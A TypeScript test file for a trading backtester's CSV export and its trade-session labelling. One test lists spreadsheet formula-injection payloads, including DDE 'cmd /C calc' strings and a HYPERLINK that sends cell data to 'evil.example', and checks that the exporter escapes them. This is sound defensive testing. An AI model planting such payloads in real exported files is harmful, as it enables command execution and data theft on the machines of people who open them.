import { describe, expect, it } from "vitest";
import { readTradesCsv } from "../../../src/backtester/read-trades-csv.js";
import { SESSION_LABELS, sessionLabeller, tradeLabels } from "../../../src/backtester/trade-labels.js";
import { TRADE_COLUMNS, tradesCsv } from "../../../src/backtester/trades-csv.js";
import { DAY, HOUR, MINUTE, parseDay } from "../../../src/domain/civil.js";
import { Refusal } from "../../../src/domain/errors.js";
import { SCENE_START } from "../../support/fills.js";
import { tradeTable } from "../../support/trade-lists.js";

const HEADER = {
  runId: "bt_2025_01_31_0123abcd",
  setupId: "scene",
  setupHash: "feed",
  symbol: "EURUSD",
  digits: 5,
  timeframe: "M15",
  fineTimeframe: "M1",
} as const;

const TRADES = tradeTable([
  {
    signalTime: SCENE_START + 8 * HOUR,
    entryTime: SCENE_START + 8 * HOUR,
    entry: 1.00001,
    stop: 0.998505,
    target: 1.003,
    lots: 0.66,
    riskMoney: 99.333,
    exitTime: SCENE_START + 9 * HOUR + 15 * MINUTE,
    exit: 1.003,
    why: "target",
    gross: 200.005,
    spreadCost: 0.66,
    slippageCost: 0,
    commission: 4.62,
    swap: -1.1,
    net: 193.625,
    r: 1.94925,
    mfeR: 2.01,
    maeR: -0.2,
    onFine: 1,
  },
  { side: -1, target: Number.NaN, net: -0.001, r: -0.00001, ambiguous: 1, gap: 1, entryBar: 3, exitBar: 3 },
]);

const text = (features?: Parameters<typeof tradesCsv>[3], header = HEADER): string =>
  new TextDecoder().decode(tradesCsv(TRADES, tradeLabels(TRADES, "UTC"), header, features));

describe("trades.csv", () => {
  it("has the columns of EXECUTION in their order, fixed decimals, and a line feed at each end", () => {
    const lines = text().split("\n");
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe("");
    expect(lines[0]).toBe(
      "run_id,trade,setup_id,setup_hash,symbol,side,signal_time,entry_time,entry,sl_initial,tp,size,risk_money,exit_time,exit,exit_reason,pnl_gross,spread_cost,slippage_cost,commission,swap,pnl_net,r,mfe_r,mae_r,ambiguous,gap,resolved_on,session,weekday,hour,bars_held",
    );
    expect(lines[1]).toBe(
      "bt_2025_01_31_0123abcd,1,scene,feed,EURUSD,long,2025-01-06T08:00:00Z,2025-01-06T08:00:00Z,1.000010,0.998505,1.003000,0.6600,99.33,2025-01-06T09:15:00Z,1.003000,target,200.01,0.66,0.00,4.62,-1.10,193.63,1.9493,2.0100,-0.2000,0,0,M1,london,mon,8,4",
    );
  });

  it("leaves a missing target empty, writes no negative zero, and says what a trade was resolved on", () => {
    const cells = text().split("\n")[2]!.split(",");
    const cell = (name: (typeof TRADE_COLUMNS)[number]) => cells[TRADE_COLUMNS.indexOf(name)];
    expect([cell("tp"), cell("pnl_net"), cell("r"), cell("side")]).toEqual(["", "0.00", "0.0000", "short"]);
    expect([cell("ambiguous"), cell("gap"), cell("resolved_on"), cell("bars_held")]).toEqual(["1", "1", "M15", "0"]);
  });

  it("appends the feature columns by signal", () => {
    const names = ["depth", "spread"];
    const values = [Float64Array.of(0.25, 7), Float64Array.of(Number.NaN, 1)];
    const lines = text({ names, values }).split("\n");
    expect(lines[0]?.endsWith(",bars_held,depth,spread")).toBe(true);
    expect(lines[1]?.endsWith(",4,0.250000,")).toBe(true);
  });

  it("is harmless to a spreadsheet, and reads back", () => {
    const hostile = { ...HEADER, setupId: '=HYPERLINK("http://x","y")', symbol: "-2+3" };
    const csv = text(undefined, hostile as unknown as typeof HEADER);
    expect(csv).toContain(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csv).toContain(",'-2+3,");
    expect(readTradesCsv(csv)[0]).toMatchObject({ setup_id: hostile.setupId, symbol: "-2+3" });
  });

  it.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1)",
    "+1+1",
    "+SUM(1)",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"x")',
  ])("is no formula to a spreadsheet where a setup is called %j, and reads back as it was", (name) => {
    const csv = text(undefined, { ...HEADER, setupId: name } as unknown as typeof HEADER);
    expect(csv).not.toMatch(/(?:^|,|\n)"?(?:[=+@\t\r]|-[^0-9])/);
    expect(csv).toMatch(/,"?'[=+\-@\t\r]/);
    expect(readTradesCsv(csv)[0]).toMatchObject({ setup_id: name });
  });

  it("reads back numbers as numbers and the empty as null, all rows or some", () => {
    const rows = readTradesCsv(text());
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ trade: 1, side: "long", entry: 1.00001, r: 1.9493, hour: 8, session: "london" });
    expect(rows[1]).toMatchObject({ tp: null, ambiguous: 1 });
    expect(readTradesCsv(text(), 1, 2)).toEqual([rows[1]]);
  });

  it("refuses what is none of it", () => {
    expect(() => readTradesCsv("a,b\n1,2\n")).toThrow(Refusal);
    expect(() => readTradesCsv("run_id,trade\nbt\n")).toThrow("Line 2 of trades.csv has 1 cells in place of 2.");
  });
});

describe("labels of a trade", () => {
  const label = (day: string, hour: number, minute = 0): string | undefined =>
    SESSION_LABELS[sessionLabeller()(parseDay(day)! * DAY + hour * HOUR + minute * MINUTE)];

  it("sessions follow their own clocks, winter and summer", () => {
    // Winter: New York is UTC−5, London UTC. Summer: −4 and +1.
    expect([0, 6, 7, 11, 12, 20, 21, 23].map((hour) => label("2025-01-08", hour))).toEqual([
      "asia",
      "asia",
      "london",
      "london",
      "new_york",
      "new_york",
      "other",
      "other",
    ]);
    expect([5, 6, 10, 11, 19, 20, 22, 23].map((hour) => label("2025-07-09", hour))).toEqual([
      "asia",
      "london",
      "london",
      "new_york",
      "new_york",
      "other",
      "other",
      "asia",
    ]);
    expect(label("2025-01-11", 12)).toBe("other");
  });

  it("weekday, hour and month are those of the setup's clock", () => {
    // Friday 2025-01-31 23:30 UTC is Saturday 00:30 in Berlin.
    const trades = tradeTable([{ entryTime: parseDay("2025-01-31")! * DAY + 23 * HOUR + 30 * MINUTE }]);
    const utc = tradeLabels(trades, "UTC");
    const berlin = tradeLabels(trades, "Europe/Berlin");
    expect([utc.weekday[0], utc.hour[0], utc.month[0]]).toEqual([5, 23, 2025 * 12]);
    expect([berlin.weekday[0], berlin.hour[0], berlin.month[0]]).toEqual([6, 0, 2025 * 12 + 1]);
  });
});
